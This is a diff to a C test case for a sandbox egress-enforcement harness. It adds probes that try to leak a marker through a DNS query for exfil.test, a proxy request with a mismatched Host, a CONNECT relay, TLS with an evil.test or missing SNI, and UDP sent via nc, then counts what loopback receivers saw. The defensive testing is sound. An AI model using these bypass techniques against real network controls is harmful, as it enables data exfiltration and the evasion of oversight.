@@ -11,8 +11,10 @@
  * proxy-aware curl to a name no rule allows, raw TCP to the denied
  * receivers' IPv4 and IPv6 literals, a DNS query for MARKER.exfil.test
  * sent straight to the DNS receiver's address and one through the
- * resolver (getent), a UDP datagram to :443, and a proxy-form request for
- * the allowed name with the Host of another. Evidence: the receivers'
+ * resolver (getent), a UDP datagram to :443 and one with the marker to a
+ * loopback UDP receiver, a proxy-form request for the allowed name with
+ * the Host of another, a CONNECT relay through the allowed http port, and
+ * TLS to tls.test with, without and with another SNI (docs/scenarios.md). Evidence: the receivers'
  * counts and request heads, the admissions log read back from the
  * completion record (verified by paddock and joined by admission id).
  *
@@ -48,6 +50,8 @@
 #define PORT_OK	    18961
 #define PORT_DENIED 18962
 #define PORT_DNS    18953
+#define PORT_TLS    18964 /* tls.test, a "tls" rule */
+#define PORT_UDP    18966 /* a loopback UDP port no rule names */
 
 static const struct case_arm arms[] = {
     {.name = "enforced"},
@@ -60,31 +64,48 @@ static const struct case_arm arms[] = {
 
 /* $1 the marker. Every client gives up quickly; what counts is what the
  * receivers saw, never what the clients say. */
-#define CLIENTS                                                                                 \
-	"m=\"$1\"\n"                                                                            \
-	"curl -s -m 5 http://allowed.test:18961/control-proxy >/dev/null\n"                     \
-	"curl -s -m 5 --noproxy '*' http://allowed.test:18961/control-transparent >/dev/null\n" \
-	"curl -s -m 3 http://denied.test:18962/$m >/dev/null\n"                                 \
-	"curl -s -m 3 --noproxy '*' http://127.0.0.1:18962/$m >/dev/null\n"                     \
-	"curl -s -m 3 --noproxy '*' 'http://[::1]:18962/'$m >/dev/null\n"                       \
-	"getent hosts $m.exfil.test >/dev/null\n"                                               \
-	"python3 - \"$m\" <<'PY'\n"                                                             \
-	"import socket, struct, sys\n"                                                          \
-	"m = sys.argv[1]\n"                                                                     \
-	"q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'\n"                 \
-	"for l in (m + '.exfil.test').split('.'):\n"                                            \
-	"    q += bytes([len(l)]) + l.encode()\n"                                               \
-	"q += b'\\x00\\x00\\x10\\x00\\x01'\n"                                                   \
-	"for dst in (('127.0.0.1', 18953), ('127.0.0.1', 443)):\n"                              \
-	"    try:\n"                                                                            \
-	"        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(q, dst)\n"      \
-	"    except OSError: pass\n"                                                            \
-	"try:\n"                                                                                \
-	"    s = socket.create_connection(('127.0.0.1', 3128), timeout=3)\n"                    \
-	"    s.sendall(('GET http://allowed.test:18961/mismatch-' + m + ' HTTP/1.1\\r\\n'\n"    \
-	"               'Host: denied.test:18962\\r\\n\\r\\n').encode()); s.recv(100)\n"        \
-	"except OSError: pass\n"                                                                \
-	"PY\n"                                                                                  \
+#define CLIENTS                                                                                    \
+	"m=\"$1\"\n"                                                                               \
+	"curl -s -m 5 http://allowed.test:18961/control-proxy >/dev/null\n"                        \
+	"curl -s -m 5 --noproxy '*' http://allowed.test:18961/control-transparent >/dev/null\n"    \
+	"curl -s -m 3 http://denied.test:18962/$m >/dev/null\n"                                    \
+	"curl -s -m 3 --noproxy '*' http://127.0.0.1:18962/$m >/dev/null\n"                        \
+	"curl -s -m 3 --noproxy '*' 'http://[::1]:18962/'$m >/dev/null\n"                          \
+	"getent hosts $m.exfil.test >/dev/null\n"                                                  \
+	"t='timeout 5 openssl s_client -connect tls.test:18964'\n"                                 \
+	"$t -proxy 127.0.0.1:3128 -servername tls.test </dev/null >/dev/null 2>&1\n"               \
+	"$t -proxy 127.0.0.1:3128 -noservername </dev/null >/dev/null 2>&1\n"                      \
+	"$t -proxy 127.0.0.1:3128 -servername evil.test </dev/null >/dev/null 2>&1\n"              \
+	"$t -noservername </dev/null >/dev/null 2>&1\n"                                            \
+	"python3 - \"$m\" <<'PY'\n"                                                                \
+	"import socket, struct, sys\n"                                                             \
+	"m = sys.argv[1]\n"                                                                        \
+	"q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'\n"                    \
+	"for l in (m + '.exfil.test').split('.'):\n"                                               \
+	"    q += bytes([len(l)]) + l.encode()\n"                                                  \
+	"q += b'\\x00\\x00\\x10\\x00\\x01'\n"                                                      \
+	"for dst in (('127.0.0.1', 18953), ('127.0.0.1', 443)):\n"                                 \
+	"    try:\n"                                                                               \
+	"        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(q, dst)\n"         \
+	"    except OSError: pass\n"                                                               \
+	"try:\n"                                                                                   \
+	"    s = socket.create_connection(('127.0.0.1', 3128), timeout=3)\n"                       \
+	"    s.sendall(('GET http://allowed.test:18961/mismatch-' + m + ' HTTP/1.1\\r\\n'\n"       \
+	"               'Host: denied.test:18962\\r\\n\\r\\n').encode()); s.recv(100)\n"           \
+	"except OSError: pass\n"                                                                   \
+	"try:\n"                                                                                   \
+	"    s = socket.create_connection(('127.0.0.1', 3128), timeout=3)\n"                       \
+	"    s.sendall(b'CONNECT allowed.test:18961 HTTP/1.1\\r\\nHost: "                          \
+	"allowed.test\\r\\n\\r\\n')\n"                                                             \
+	"    if b' 200 ' in s.recv(200).split(b'\\r\\n')[0] + b' ':\n"                             \
+	"        s.sendall(('GET /relay-' + m + ' HTTP/1.1\\r\\nHost: d\\r\\n\\r\\n').encode())\n" \
+	"        s.recv(100)\n"                                                                    \
+	"except OSError: pass\n"                                                                   \
+	"try:\n"                                                                                   \
+	"    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"                               \
+	"    s.sendto(('udp-' + m).encode(), ('127.0.0.1', 18966))\n"                              \
+	"except OSError: pass\n"                                                                   \
+	"PY\n"                                                                                     \
 	"exit 0\n"
 
 /* weakened:dns-open: the open stub's upstream is the exfil.test receiver. */
@@ -103,12 +124,13 @@ static const char *const dns_open_env[] = {"PADDOCK_DNS_UPSTREAM=127.0.0.1:18953
 	"$w -Y off http://127.0.0.1:18962/$m\n"                                                   \
 	"$w -Y off \"http://[::1]:18962/$m\"\n"                                                   \
 	"timeout 5 nslookup $m.exfil.test 127.0.0.1:18953 >/dev/null 2>&1\n"                      \
+	"printf 'udp-%s' \"$m\" | timeout 3 nc -u 127.0.0.1 18966 >/dev/null 2>&1\n"              \
 	"printf 'GET http://allowed.test:18961/mismatch-%s HTTP/1.1\\r\\nHost: "                  \
 	"denied.test:18962\\r\\n\\r\\n' \"$m\" | timeout 5 nc 127.0.0.1 3128 >/dev/null 2>&1\n"   \
 	"exit 0\n"
 
 struct hb09 {
-	struct counter_rx *ok, *denied4, *denied6, *dns;
+	struct counter_rx *ok, *denied4, *denied6, *dns, *tls, *udp;
 	char marker[64];
 	struct egress_obs o;
 };
@@ -143,13 +165,13 @@ static bool prove(struct hb09 *h, size_t want)
 		const char *addr;
 		int port;
 		bool udp;
-	} all[] = {{h->ok, "127.0.0.1", PORT_OK, false},
-		   {h->denied4, "127.0.0.1", PORT_DENIED, false},
-		   {h->denied6, "::1", PORT_DENIED, false},
-		   {h->dns, "127.0.0.1", PORT_DNS, true}};
+	} all[] = {
+	    {h->ok, "127.0.0.1", PORT_OK, false},    {h->denied4, "127.0.0.1", PORT_DENIED, false},
+	    {h->denied6, "::1", PORT_DENIED, false}, {h->dns, "127.0.0.1", PORT_DNS, true},
+	    {h->tls, "127.0.0.1", PORT_TLS, false},  {h->udp, "127.0.0.1", PORT_UDP, true}};
 	bool ok = true;
 
-	for (size_t i = 0; i < 4; i++) {
+	for (size_t i = 0; i < sizeof(all) / sizeof(all[0]); i++) {
 		poke(all[i].addr, all[i].port, all[i].udp);
 		for (int t = 0; t < 50 && counter_matching(all[i].rx, "X-Harness-Probe") < want;
 		     t++)
@@ -172,8 +194,14 @@ static int setup(struct case_run *cr, struct err *why)
 		rc = counter_start(&h->denied6, "::1", PORT_DENIED, false);
 	if (rc >= 0)
 		rc = counter_start(&h->dns, "127.0.0.1", PORT_DNS, true);
+	if (rc >= 0)
+		rc = counter_start(&h->tls, "127.0.0.1", PORT_TLS, false);
+	if (rc >= 0)
+		rc = counter_start(&h->udp, "127.0.0.1", PORT_UDP, true);
 	if (rc < 0)
-		return err_sys(why, rc, "a receiver could not listen (ports 18961, 18962, 18953)");
+		return err_sys(why, rc,
+			       "a receiver could not listen (ports 18961, 18962, 18953, 18964, "
+			       "18966)");
 	return 0;
 }
 
@@ -204,10 +232,14 @@ static void admissions(struct case_run *cr, struct hb09 *h, const char *rec)
 		cJSON *o = cJSON_ParseWithLength(l, e ? (size_t)(e - l) : strlen(l));
 		const cJSON *ev = cJSON_GetObjectItemCaseSensitive(o, "event");
 		const cJSON *d = cJSON_GetObjectItemCaseSensitive(o, "decision");
+		const cJSON *nm = cJSON_GetObjectItemCaseSensitive(o, "name");
 
-		if (cJSON_IsString(ev) && cJSON_IsString(d) &&
+		/* The http receiver's admissions: those for allowed.test (the
+		 * TLS control's are tls.test's, counted by the TLS receiver). */
+		if (cJSON_IsString(ev) && cJSON_IsString(d) && cJSON_IsString(nm) &&
 		    strcmp(ev->valuestring, "decision") == 0 &&
-		    strcmp(d->valuestring, "allowed") == 0)
+		    strcmp(d->valuestring, "allowed") == 0 &&
+		    strcmp(nm->valuestring, "allowed.test") == 0)
 			h->o.admitted++;
 		cJSON_Delete(o);
 		if (!e)
@@ -267,13 +299,27 @@ static void run(struct case_run *cr)
 	h->o.allowed = counter_count(h->ok) - counter_matching(h->ok, "X-Harness-Probe");
 	h->o.control_proxy = counter_matching(h->ok, "GET /control-proxy ") > 0;
 	h->o.control_transparent = counter_matching(h->ok, "GET /control-transparent ") > 0;
+	h->o.relayed = counter_matching(h->ok, "/relay-");
+	h->o.udp_marker = counter_matching(h->udp, h->marker);
+	/* A ClientHello that names tls.test carries those bytes; any other
+	 * connection but the harness's probe came without the allowed SNI. */
+	h->o.tls_client = r->kind != ARM_DOCKER;
+	h->o.tls_control = counter_matching(h->tls, "tls.test") > 0;
+	h->o.tls_leaked = counter_count(h->tls) - counter_matching(h->tls, "X-Harness-Probe") -
+			  counter_matching(h->tls, "tls.test");
 	result_evidence(
 	    r, "receivers",
 	    "allowed %zu request(s) (proxy-aware control %s, proxy-unaware control %s), "
-	    "denied %zu connection(s), exfil.test DNS %zu marker query(ies); probes %s",
+	    "denied %zu connection(s), exfil.test DNS %zu marker query(ies), UDP %zu marker "
+	    "datagram(s), TLS %s with the allowed SNI and %zu without it, %zu relayed through a "
+	    "CONNECT to the http rule; probes %s",
 	    h->o.allowed, h->o.control_proxy ? "arrived" : "missing",
 	    h->o.control_transparent ? "arrived" : "missing", h->o.denied, h->o.dns_marker,
-	    h->o.receivers_proven ? "counted" : "NOT counted");
+	    h->o.udp_marker,
+	    !h->o.tls_client   ? "(no TLS client in this image)"
+	    : h->o.tls_control ? "arrived"
+			       : "missing",
+	    h->o.tls_leaked, h->o.relayed, h->o.receivers_proven ? "counted" : "NOT counted");
 	if (h->o.mediated)
 		admissions(cr, h, rec);
 	result_evidence(r, "exit", "workload status %d (not evidence)", status);
@@ -288,6 +334,8 @@ static void teardown(struct case_run *cr)
 	counter_stop(h->denied4);
 	counter_stop(h->denied6);
 	counter_stop(h->dns);
+	counter_stop(h->tls);
+	counter_stop(h->udp);
 }
 
 const struct eval_case hb09_case = {
